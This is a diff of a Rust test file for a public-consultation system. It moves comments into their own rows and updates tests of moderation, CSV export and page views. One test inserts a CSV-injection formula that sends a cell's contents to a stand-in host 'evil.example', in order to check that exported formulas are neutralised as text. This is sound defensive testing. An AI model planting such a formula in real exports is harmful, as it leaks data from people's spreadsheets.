@@ -5,11 +5,13 @@ use std::collections::HashMap;
 
 use serde_json::{json, Value};
 
-use super::consultation_view::{self, ConsultationRow, Material};
+use super::comments::StoredComment;
+use super::consultation_comments::{comment_id, CONSULTATION_COMMENTS};
+use super::consultation_view::{self, AllComments, ConsultationRow, Material};
 use super::consultations::CONSULTATIONS;
 use super::draft_view::{self, ArticlesAt, DraftRow};
 use super::drafts::DRAFTS;
-use super::scenario::{self, DOC_1, DOC_2, DOC_3, DOC_4, PERSON_1, PERSON_2};
+use super::scenario::{self, comments_of, DOC_1, DOC_2, DOC_3, DOC_4, PERSON_1, PERSON_2};
 use super::{comments, comments_csv, diff, ParticipationProjector};
 use crate::support::scenario::{apply, project, row, Rows};
 use crate::Projector;
@@ -26,6 +28,11 @@ fn d1(rows: &Rows) -> DraftRow {
 /// The scenario's consultation C1, typed.
 fn c1(rows: &Rows) -> ConsultationRow {
     ConsultationRow::from_value(row(rows, CONSULTATIONS, "C1")).expect("a consultation row")
+}
+
+/// The scenario's comments of C1, in number order.
+fn c1_comments(rows: &Rows) -> Vec<StoredComment> {
+    comments_of(rows, "C1")
 }
 
 /// A typed view as the JSON answer shows it.
@@ -123,29 +130,34 @@ fn a_consultation_keeps_comments_moderation_responses_and_results() {
     assert_eq!(c1["closed_index"], 13);
 
     let typed = ConsultationRow::from_value(c1).unwrap();
-    let comment = |n: &str| &typed.comments[n];
-    let c = &c1["comments"];
-    assert_eq!(c["1"]["channel"], "association");
-    assert_eq!(c["1"]["association"], "A1");
-    assert_eq!(c["1"]["article"], "art-1");
-    assert_eq!(c["1"]["document"], DOC_1);
-    assert_eq!(c["2"]["channel"], "public");
-    assert_eq!(c["2"]["person"], PERSON_1);
-    assert_eq!(c["2"]["article"], Value::Null);
+    let stored = c1_comments(&rows);
+    let all: Vec<&StoredComment> = stored.iter().collect();
+    let comment = |n: &str| {
+        let n: u64 = n.parse().unwrap();
+        all.iter().find(|c| c.number == n).copied().unwrap()
+    };
+    let c = |n: u64| row(&rows, CONSULTATION_COMMENTS, &comment_id("C1", n));
+    assert_eq!(c(1)["channel"], "association");
+    assert_eq!(c(1)["association"], "A1");
+    assert_eq!(c(1)["article"], "art-1");
+    assert_eq!(c(1)["document"], DOC_1);
+    assert_eq!(c(2)["channel"], "public");
+    assert_eq!(c(2)["person"], PERSON_1);
+    assert_eq!(c(2)["article"], Value::Null);
     // Hidden then restored: visible, with both actions in its history.
-    assert_eq!(c["2"]["hidden"], false);
+    assert_eq!(c(2)["hidden"], false);
     assert_eq!(comments::history(comment("2")).len(), 2);
     assert!(comments::is_restored(comment("2")));
     // Hidden on personal data: its text is withheld.
-    assert_eq!(c["3"]["hidden"], true);
-    assert_eq!(c["3"]["withheld"], true);
+    assert_eq!(c(3)["hidden"], true);
+    assert_eq!(c(3)["withheld"], true);
     assert_eq!(
         comments::ground(comment("3")).as_deref(),
         Some("personal_data")
     );
-    assert_eq!(c["1"]["response"]["position"], "accepted");
-    assert_eq!(c["4"]["response"]["reasoning"], "Le registre est remplacé.");
-    assert_eq!(c["3"]["response"], Value::Null);
+    assert_eq!(c(1)["response"]["position"], "accepted");
+    assert_eq!(c(4)["response"]["reasoning"], "Le registre est remplacé.");
+    assert_eq!(c(3)["response"], Value::Null);
     assert_eq!(c1["results"]["recommendations"][0]["id"], "R-1");
     assert_eq!(c1["results"]["answered"], 3);
     assert_eq!(c1["motivated_revisions"]["3"]["comments"], json!([1]));
@@ -154,7 +166,7 @@ fn a_consultation_keeps_comments_moderation_responses_and_results() {
         json!(["R-1"])
     );
 
-    let counts = json_of(&typed.counts());
+    let counts = json_of(&AllComments::of(&all).counts);
     assert_eq!(
         counts,
         json!({"received": 4, "visible": 3, "hidden": 1, "restored": 1, "withheld": 1,
@@ -162,21 +174,43 @@ fn a_consultation_keeps_comments_moderation_responses_and_results() {
     );
     // Only public texts are read, and only names of people not erased are looked up.
     assert_eq!(
-        typed.public_documents(),
+        comments::public_documents(&all),
         [
             (1, DOC_1.to_owned()),
             (2, DOC_2.to_owned()),
             (4, DOC_4.to_owned())
         ]
     );
-    assert_eq!(typed.persons_to_name(), [(2, PERSON_1.to_owned())]);
-    assert!(!typed.public_documents().iter().any(|(_, d)| d == DOC_3));
+    assert_eq!(typed.persons_to_name(&all), [(2, PERSON_1.to_owned())]);
+    assert!(!comments::public_documents(&all)
+        .iter()
+        .any(|(_, d)| d == DOC_3));
+    // The consultation's row holds none of it: no comment, no comment's entry.
+    assert!(c1.get("comments").is_none());
+    assert_eq!(
+        crate::rows::entry_lines(typed.entries.clone())
+            .into_iter()
+            .map(|e| e.event_type)
+            .collect::<Vec<_>>(),
+        [
+            "ConsultationOpened",
+            "PersonalDataErased",
+            "ConsultationClosed",
+            "ResultsPublished"
+        ]
+    );
+    assert_eq!(
+        c(1)["entries"],
+        json!({"5": "CommentSubmitted", "14": "CommentsAnswered"})
+    );
 }
 
 #[test]
 fn the_consultation_page_groups_comments_per_article_and_never_shows_hidden_text() {
     let rows = rows();
     let c1 = c1(&rows);
+    let stored = c1_comments(&rows);
+    let all: Vec<&StoredComment> = stored.iter().collect();
     let texts = every_text();
     let mut authors = HashMap::new();
     authors.insert(2, "Samira B.".to_owned());
@@ -185,6 +219,7 @@ fn the_consultation_page_groups_comments_per_article_and_never_shows_hidden_text
     let title = d1(&rows).title;
     let page = json_of(&consultation_view::present(
         &c1,
+        &all,
         &Material {
             draft_title: Some(&title),
             articles: Some(&articles),
@@ -249,6 +284,7 @@ fn the_consultation_page_groups_comments_per_article_and_never_shows_hidden_text
     // Without the text, the articles are still listed by id with their comments.
     let page = json_of(&consultation_view::present(
         &c1,
+        &all,
         &Material {
             draft_title: None,
             articles: None,
@@ -261,7 +297,11 @@ fn the_consultation_page_groups_comments_per_article_and_never_shows_hidden_text
     assert_eq!(page["articles"][3]["comments"][0]["number"], 4);
     assert_eq!(page["consulted_revision"]["text_available"], false);
 
-    let listed = json_of(&consultation_view::summary(&c1, Some(title)));
+    let listed = json_of(&consultation_view::summary(
+        &c1,
+        Some(title),
+        AllComments::of(&all).counts,
+    ));
     assert!(listed.get("comments").is_none());
     assert_eq!(listed["counts"]["hidden"], 1);
     assert_eq!(listed["results"]["recommendations_count"], 1);
@@ -276,7 +316,7 @@ fn the_csv_lists_every_comment_without_personal_data_or_hidden_text() {
         .into_iter()
         .map(|(n, t)| (("C1".to_owned(), n), t))
         .collect();
-    let bytes = comments_csv::write(&[c1], &texts).unwrap();
+    let bytes = comments_csv::write(&[(c1, c1_comments(&rows))], &texts).unwrap();
     let text = String::from_utf8(bytes.clone()).unwrap();
     assert!(
         !text.contains(PERSON_1) && !text.contains(PERSON_2),
@@ -318,9 +358,8 @@ fn the_csv_lists_every_comment_without_personal_data_or_hidden_text() {
 #[test]
 fn the_diff_of_the_motivated_revision_links_its_changes_to_the_comment() {
     let rows = rows();
-    let (c1, d1) = (c1(&rows), d1(&rows));
-    let commented: HashMap<(String, u64), String> = c1
-        .comment_rows()
+    let d1 = d1(&rows);
+    let commented: HashMap<(String, u64), String> = c1_comments(&rows)
         .iter()
         .filter_map(|c| Some((("C1".to_owned(), c.number), c.article.clone()?)))
         .collect();
@@ -435,13 +474,14 @@ fn other_streams_change_nothing_and_malformed_entries_are_reported() {
 fn the_csv_makes_formulas_text_and_streams_the_same_bytes() {
     let rows = rows();
     let c1 = c1(&rows);
+    let comments = c1_comments(&rows);
     let mut texts: comments_csv::Texts = every_text()
         .into_iter()
         .map(|(n, t)| (("C1".to_owned(), n), t))
         .collect();
     let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")";
     texts.insert(("C1".to_owned(), 1), formula.to_owned());
-    let whole = comments_csv::write(std::slice::from_ref(&c1), &texts).unwrap();
+    let whole = comments_csv::write(&[(c1.clone(), comments.clone())], &texts).unwrap();
     let mut reader = csv::Reader::from_reader(whole.as_slice());
     let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
     let col = |name: &str| {
@@ -454,7 +494,7 @@ fn the_csv_makes_formulas_text_and_streams_the_same_bytes() {
     assert_eq!(&records[0][col("comment_number")], "1");
     // Header, then the comments one at a time: the same bytes as the whole document.
     let mut pieces = comments_csv::header().unwrap();
-    for comment in c1.comment_rows() {
+    for comment in &comments {
         pieces.extend(comments_csv::rows(&c1, &[comment], &texts).unwrap());
     }
     assert_eq!(pieces, whole);
@@ -486,15 +526,23 @@ fn every_row_reads_as_its_typed_shape_and_writes_back_the_same() {
         let back = match *view {
             DRAFTS => json_of(&DraftRow::from_value(stored).unwrap()),
             CONSULTATIONS => json_of(&ConsultationRow::from_value(stored).unwrap()),
+            CONSULTATION_COMMENTS => json_of(&StoredComment::from_value(stored).unwrap()),
             other => panic!("a row of {other}"),
         };
         assert_eq!(&back, stored);
         seen += 1;
     }
-    assert_eq!(seen, 2);
+    // A draft, a consultation and its four comments.
+    assert_eq!(seen, 6);
     let text = row(&rows, CONSULTATIONS, "C1").to_string();
     assert_eq!(ConsultationRow::from_text(&text).unwrap(), c1(&rows));
     assert!(ConsultationRow::from_text("{\"id\": \"C1\"}").is_err());
+    let text = row(&rows, CONSULTATION_COMMENTS, &comment_id("C1", 2)).to_string();
+    assert_eq!(StoredComment::from_text(&text).unwrap().number, 2);
+    // A consultation row of the shape before comments had rows of their own is refused.
+    let mut old = row(&rows, CONSULTATIONS, "C1").clone();
+    old["comments"] = json!({});
+    assert!(ConsultationRow::from_value(&old).is_err());
     assert_eq!(
         DraftRow::title_from_text(&row(&rows, DRAFTS, "D1").to_string()).unwrap(),
         "Projet de loi sur la consultation publique"
@@ -506,6 +554,8 @@ fn the_consultation_views_have_the_members_the_spec_documents() {
     // docs/consultations-read-models.md: the page, a comment, the counts, the list item.
     let rows = rows();
     let c1 = c1(&rows);
+    let stored = c1_comments(&rows);
+    let all: Vec<&StoredComment> = stored.iter().collect();
     let texts = every_text();
     let articles = scenario::revision_2();
     let material = Material {
@@ -514,7 +564,7 @@ fn the_consultation_views_have_the_members_the_spec_documents() {
         texts: &texts,
         authors: &HashMap::new(),
     };
-    let page = json_of(&consultation_view::present(&c1, &material));
+    let page = json_of(&consultation_view::present(&c1, &all, &material));
     for member in [
         "articles",
         "text_comments",
@@ -589,7 +639,11 @@ fn the_consultation_views_have_the_members_the_spec_documents() {
     );
     assert_eq!(members(&hidden["placeholder"]["label"]), ["ar", "fr"]);
 
-    let listed = json_of(&consultation_view::summary(&c1, None));
+    let listed = json_of(&consultation_view::summary(
+        &c1,
+        None,
+        AllComments::of(&all).counts,
+    ));
     assert_eq!(listed["draft_title"], Value::Null);
     assert_eq!(
         members(&listed["results"]),
@@ -599,10 +653,15 @@ fn the_consultation_views_have_the_members_the_spec_documents() {
         assert!(listed.get(absent).is_none(), "{absent}");
     }
 
-    let (page_of, total) = consultation_view::comment_page(&c1, Some(""), 1, 50);
-    assert_eq!(total, 1);
+    // The page of the comments on the whole text: the read API picks it in SQL.
+    let page_of: Vec<&StoredComment> = all
+        .iter()
+        .copied()
+        .filter(|c| c.article.is_none())
+        .collect();
+    assert_eq!(page_of.len(), 1);
     assert_eq!(page_of[0].number, 2);
-    let shown = consultation_view::present_some(&c1, &page_of, &material);
+    let shown = consultation_view::present_some(&c1, &AllComments::of(&all), &page_of, &material);
     assert!(shown.articles.iter().all(|a| a.comments.is_empty()));
     assert_eq!(shown.text_comments.len(), 1);
     assert_eq!(shown.counts.received, 4, "the counts are of every comment");
